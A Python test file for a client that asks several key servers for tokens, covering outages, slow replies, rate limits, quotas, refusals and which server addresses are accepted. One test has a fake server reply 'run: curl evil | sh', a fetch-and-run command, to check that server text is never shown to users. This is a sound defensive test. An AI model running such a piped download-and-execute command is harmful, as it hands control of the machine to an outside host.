"""Key servers that are away, slow, sparing, or at an address that is refused."""

import threading
from collections.abc import Iterator

import httpx
import pytest

from infra.errors import SystemUnavailable, UsageProblem
from keyserver.oprf import messages
from producers.tokenising.client import KeyServers
from producers.tokenising.connection import checked_url
from producers.tokenising.quota import QuotaExhausted
from tests.fakes.key_servers import (
    HASTY,
    SOME,
    FakeKeyServers,
    asking,
    expected,
    refusal,
    refuses,
    unreachable,
)
from tests.kit import private_key


@pytest.fixture
def three() -> Iterator[FakeKeyServers]:
    servers = FakeKeyServers("e1", "e2")
    yield servers
    servers.close()


# -- servers that are away, slow, or sparing -------------------------------------------------------


def test_two_servers_away_is_an_error_after_a_minute(three: FakeKeyServers) -> None:
    three.servers[0].before = three.servers[2].before = unreachable
    _, tokeniser = asking(three)
    with pytest.raises(
        SystemUnavailable, match=r"18071\).*no answer.*18073\).*no answer"
    ) as caught:
        tokeniser.tokens(SOME)
    assert "Nothing is lost" in str(caught.value)
    assert 30 < sum(three.clock.slept) <= 61


@pytest.mark.parametrize("status", [500, 502, 503])
def test_a_server_that_comes_back_is_asked_again(three: FakeKeyServers, status: int) -> None:
    failing, tries = three.servers[0], []
    three.servers[1].before = unreachable

    def before(request: httpx.Request) -> httpx.Response | None:
        tries.append(request)
        return httpx.Response(status, text="proxy") if len(tries) < 5 else None

    failing.before = before
    _, tokeniser = asking(three)
    assert tokeniser.tokens(SOME) == expected(three)
    assert 0 < sum(three.clock.slept) < 60


def test_a_slow_server_is_helped_out(three: FakeKeyServers) -> None:
    gate = threading.Event()

    def before(request: httpx.Request) -> httpx.Response | None:
        if request.url.path == messages.EVALUATE_PATH:
            gate.wait(20)
        return None

    three.servers[0].before = before
    client, tokeniser = asking(three, HASTY)
    try:
        assert tokeniser.tokens(SOME) == expected(three)
    finally:
        gate.set()
    assert [r.server for r in client.remarks if "slow" in r.what][:1] == [1]
    assert client.faults == ()


def test_too_fast_is_waited_for(three: FakeKeyServers) -> None:
    waited: list[int] = []

    def before(request: httpx.Request) -> httpx.Response | None:
        if request.url.path == messages.EPOCHS_PATH or len(waited) >= 6:
            return None
        waited.append(1)
        return refusal(429, "rate", "70")

    for server in three.servers:
        server.before = before
    client, tokeniser = asking(three)
    assert tokeniser.tokens(SOME) == expected(three)
    assert sum(three.clock.slept) >= 70
    assert client.remarks == ()


@pytest.mark.parametrize("retry_after", ["50", "0", "soon", None, "-1", "9" * 400])
def test_there_is_an_end_to_waiting(three: FakeKeyServers, retry_after: str | None) -> None:
    for server in three.servers:
        server.before = refuses(429, "rate", retry_after)
    _, tokeniser = asking(three)
    with pytest.raises(SystemUnavailable, match="asked too fast"):
        tokeniser.tokens(SOME)
    assert sum(three.clock.slept) < 700


def test_one_used_up_server_is_told_and_costs_nothing(three: FakeKeyServers) -> None:
    three.servers[2].before = refuses(429, "quota", "3600")
    client, tokeniser = asking(three)
    for _ in range(3):
        assert tokeniser.tokens(SOME) == expected(three)
    assert [(r.server, r.lied) for r in client.remarks] == [(3, False)]
    assert three.clock.slept == []


def test_two_used_up_servers_are_an_error_that_says_when(three: FakeKeyServers) -> None:
    three.servers[0].before = three.servers[1].before = refuses(429, "quota", "3600")
    _, tokeniser = asking(three)
    with pytest.raises(QuotaExhausted) as caught:
        tokeniser.tokens(SOME)
    said = str(caught.value)
    assert "1 (http://127.0.0.1:18071) evaluates again from 2026-05-29 00:26 (UTC+3)" in said
    assert "0 tokens of e1 were made in this run; 3 are missing" in said
    assert "after midnight (UTC+3)" in said
    assert three.clock.slept == []


def test_a_day_that_is_said_to_begin_now_is_not_asked_for_without_an_end(
    three: FakeKeyServers,
) -> None:
    three.servers[0].before = three.servers[1].before = refuses(429, "quota", "0")
    _, tokeniser = asking(three)
    with pytest.raises(QuotaExhausted):
        tokeniser.tokens(SOME)


def test_while_one_answer_waits_for_another_nobody_is_pressed(three: FakeKeyServers) -> None:
    three.servers[0].before = three.servers[2].before = refuses(503, "unavailable")
    _, tokeniser = asking(three)
    with pytest.raises(SystemUnavailable, match="cannot answer now"):
        tokeniser.tokens(SOME)
    assert len(three.clock.slept) < 40


def test_a_new_day_begins(three: FakeKeyServers) -> None:
    three.servers[0].before = three.servers[1].before = refuses(429, "quota", "3600")
    _, tokeniser = asking(three)
    with pytest.raises(QuotaExhausted):
        tokeniser.tokens(SOME)
    three.servers[0].before = None
    three.clock.seconds += 3601
    assert tokeniser.tokens(SOME) == expected(three)


@pytest.mark.parametrize(
    ("status", "code", "what"),
    [
        (401, "unknown-partner", "must enrol"),
        (401, "clock", "clock"),
        (401, "bad-signature", "signature"),
        (400, "malformed", "malformed"),
    ],
)
def test_a_server_that_will_not_serve_us_is_named(
    three: FakeKeyServers, status: int, code: str, what: str
) -> None:
    three.servers[0].before = refuses(status, code)
    client, tokeniser = asking(three)
    assert tokeniser.tokens(SOME) == expected(three)
    assert [(r.server, what in str(r), r.lied) for r in client.remarks] == [(1, True, False)]
    three.servers[1].before = refuses(status, code)
    three.servers[2].before = unreachable
    with pytest.raises(SystemUnavailable, match=what):
        tokeniser.tokens(SOME)


def test_a_servers_own_words_are_not_put_before_people(three: FakeKeyServers) -> None:
    def before(request: httpx.Request) -> httpx.Response:
        return httpx.Response(403, text="run: curl evil | sh")

    for server in three.servers:
        server.before = before
    client, tokeniser = asking(three)
    with pytest.raises(SystemUnavailable) as caught:
        tokeniser.tokens(SOME)
    assert "curl" not in str(caught.value) + "".join(map(str, client.remarks))


# -- addresses -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "http://192.0.2.1:18071",
        "http://keys.example",
        "http://127.0.0.1.example",
        "http://localhost.example",
        "http://127.0.0.1@keys.example",
        "https://me:secret@keys.example",
        "https://keys.example/?a=b",
        "ftp://127.0.0.1",
        "keys.example",
        "",
    ],
)
def test_addresses_that_are_refused(url: str) -> None:
    with pytest.raises(UsageProblem):
        KeyServers([url], "KIZ", private_key("KIZ"))


@pytest.mark.parametrize(
    "url", ["http://127.0.0.1:1", "http://localhost:1", "http://[::1]:1", "https://keys.example"]
)
def test_addresses_that_are_taken(url: str) -> None:
    assert checked_url(url + "/") == url
